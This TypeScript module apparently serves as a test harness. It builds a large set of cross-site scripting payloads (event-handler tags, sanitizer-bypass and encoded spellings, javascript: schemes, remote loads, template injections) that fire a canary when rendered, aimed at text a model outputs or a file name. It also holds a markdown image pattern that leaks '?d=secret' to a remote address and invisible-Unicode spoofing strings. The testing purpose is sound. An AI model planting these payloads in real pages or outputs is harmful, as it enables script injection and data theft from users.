/** What somebody who wants to run something in a page would have a model say, or call a file. */
export interface Payload {
  name: string;
  text: string;
}

/** Each is to call `fired`, or to load something of the canary, from wherever it becomes markup. */
export function payloads(canary: string): Payload[] {
  const run = (id: string) => `fired('${id}')`;
  const all: Payload[] = [];
  const add = (name: string, text: (id: string) => string) => {
    const id = `${all.length}-${name}`;
    all.push({ name: id, text: text(id) });
  };
  for (const [tag, attributes] of ELEMENTS)
    for (const event of EVENTS[tag] ?? ['onclick'])
      add(`${tag}-${event}`, (id) => `<${tag} ${attributes} ${event}="${run(id)}">x</${tag}>`);
  for (const wrap of BREAKOUTS) add('breakout', (id) => `${wrap}<img src=x onerror="${run(id)}">`);
  for (const spelling of SPELLINGS) add('spelling', (id) => spelling(run(id)));
  for (const scheme of SCHEMES)
    for (const where of NAVIGATIONS) add('scheme', (id) => where(`${scheme(run(id))}`));
  for (const load of LOADS) add('load', (id) => load(`${canary}/${id}`));
  for (const markdown of MARKDOWN) add('markdown', (id) => markdown(`${canary}/${id}`, run(id)));
  for (const template of TEMPLATES) add('template', (id) => template(run(id)));
  return all;
}

/** Words that look like others, or carry some that nobody sees. */
export const UNSEEN: readonly Payload[] = [
  ...['bill \u202efdp.exe', 'pay\u200bpal', 'a\u00ad\u034fb', 'x\u3164\u2800\uffa0y', 'v\ufe01\ufe02w'],
  ...['flag\u{e0041}\u{e0100}', 'join\u200ded', 'line\u2028after', 'mark\u061c\u2066ed', '\u180e\u17b4x'],
].map((text) => ({ name: 'unseen', text }));

/** Those that do something as soon as they are in a page. */
const EVENTS: Readonly<Record<string, readonly string[]>> = {
  img: ['onerror', 'onload', 'onloadstart', 'onclick', 'onmouseover'],
  image: ['onerror'],
  svg: ['onload', 'onfocusin', 'onbegin'],
  body: ['onload', 'onpageshow', 'onhashchange', 'onfocus', 'onresize'],
  iframe: ['onload', 'onerror'],
  object: ['onerror', 'onload'],
  embed: ['onerror', 'onload'],
  video: ['onerror', 'onloadstart', 'oncanplay'],
  audio: ['onerror', 'onloadstart'],
  source: ['onerror'],
  track: ['onerror'],
  details: ['ontoggle'],
  input: ['onfocus', 'onblur', 'onanimationstart'],
  textarea: ['onfocus'],
  select: ['onfocus'],
  button: ['onfocus', 'onclick'],
  a: ['onfocus', 'onmouseenter'],
  marquee: ['onstart', 'onfinish'],
  style: ['onload', 'onerror'],
  link: ['onload', 'onerror'],
  script: ['onload', 'onerror'],
  div: ['onanimationend', 'onpointerenter', 'onscroll', 'onwheel', 'onfocus'],
  dialog: ['onclose', 'oncancel', 'onfocus'],
  animate: ['onbegin', 'onend'],
  set: ['onbegin'],
  math: ['onclick', 'onmouseover'],
  form: ['onsubmit', 'onfocusin'],
  table: ['onfocus'],
  template: ['onfocus'],
  xss: ['onfocus', 'onpointerover', 'oncontentvisibilityautostatechange'],
};

const ELEMENTS: readonly (readonly [tag: string, attributes: string])[] = [
  ['img', 'src=x'],
  ['img', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="'],
  ['image', 'src=x'],
  ['svg', 'tabindex=0 autofocus'],
  ['body', ''],
  ['iframe', 'src="about:blank"'],
  ['object', 'data=x'],
  ['embed', 'src=x'],
  ['video', 'src=x autoplay'],
  ['audio', 'src=x autoplay'],
  ['source', 'src=x'],
  ['track', 'src=x default'],
  ['details', 'open'],
  ['input', 'autofocus style="animation-name:x"'],
  ['textarea', 'autofocus'],
  ['select', 'autofocus'],
  ['button', 'autofocus'],
  ['a', 'href=# tabindex=0 autofocus'],
  ['marquee', 'loop=1 width=0'],
  ['style', ''],
  ['link', 'rel=stylesheet href=x'],
  ['script', 'src=x'],
  ['div', 'tabindex=0 autofocus contenteditable'],
  ['dialog', 'open autofocus tabindex=0'],
  ['animate', 'attributeName=x dur=1s'],
  ['set', 'attributeName=x'],
  ['math', ''],
  ['form', 'tabindex=0 autofocus'],
  ['table', 'tabindex=0 autofocus background=x'],
  ['template', 'shadowrootmode=open'],
  ['xss', 'tabindex=0 autofocus style="content-visibility:auto;display:block"'],
];

/** What ends whatever the text may stand in. */
const BREAKOUTS = [
  ...['', '">', "'>", '`>', '-->', ']]>', '*/', '</style>', '</script>', '</title>', '</textarea>', '</pre>'],
  ...['</noscript>', '</template>', '</svg>', '</math>', '</select>', '</iframe>', '</xmp>', '</code></pre>'],
  ...['"><!--', '<!--><', '<![CDATA[', '<?xml ?>', '<x y="z>', "<x y='z>", '<p title="</p>', '\\">', "\\'>"],
  ...['%22%3E', '&quot;&gt;', '\u2028', '\u0000', '\ufeff', '\u202e', '</', '<//', '< /p>', '{{', '${', '#{'],
];

const SPELLINGS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script >${call}</script >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call) => `<ImG/sRc=x/oNeRrOr=${call}>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<img\tsrc=x\fonerror=${call}>`,
  (call) => `<img src=x one\u0000rror=${call}>`,
  (call) => `<img src=x onerror="${[...call].map((char) => `&#${char.charCodeAt(0)};`).join('')}">`,
  (call) =>
    `<img src=x onerror="${[...call].map((char) => `&#x${char.charCodeAt(0).toString(16)}`).join(';')};">`,
  (call) => `<img src=x onerror="eval(atob('${Buffer.from(call).toString('base64')}'))">`,
  (call) => `&lt;img src=x onerror="${call}"&gt;`,
  (call) => `&amp;lt;img src=x onerror="${call}"&amp;gt;`,
  (call) => `\\u003cimg src=x onerror="${call}"\\u003e`,
  (call) => `%3Cimg%20src=x%20onerror=%22${call}%22%3E`,
  (call) => `\uff1cimg src=x onerror=${call}\uff1e`,
  (call) => `+ADw-img src=x onerror=${call}+AD4-`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${call}></image></svg>#x">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<base href="javascript:${call}//"><a href=/>x</a>`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
];

const SCHEMES: readonly ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `vbscript:${call}`,
];

const NAVIGATIONS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}" id=go autofocus>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `[click me](${address})`,
];

const LOADS: readonly ((address: string) => string)[] = [
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<link rel=prefetch href="${address}">`,
  (address) => `<link rel=preconnect href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<style>@import "${address}"; *{background:url(${address})}</style>`,
  (address) => `<b style="background-image:url('${address}')">x</b>`,
  (address) => `<svg><image href="${address}"/></svg>`,
  (address) => `<body background="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address) => address,
];

const MARKDOWN: readonly ((address: string, call: string) => string)[] = [
  (address) => `![pixel](${address}?d=secret)`,
  (address) => `[![x](${address})](${address})`,
  (address) => `![x][ref]\n\n[ref]: ${address}`,
  (address) => `<${address}>`,
  (address, call) => `[x](javascript:${call} "${address}")`,
  (_, call) => `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  (_, call) => `# <img src=x onerror=${call}>`,
  (_, call) => `| <img src=x onerror=${call}> |\n|---|\n| x |`,
  (_, call) => `$$\\href{javascript:${call}}{x}$$`,
  (_, call) => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${call}>"]\n\`\`\``,
];

const TEMPLATES: readonly ((call: string) => string)[] = [
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `__proto__[x]=${call}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  (call) => `{"type":"script","props":{"children":"${call}"},"__v":1,"constructor":null}`,
];
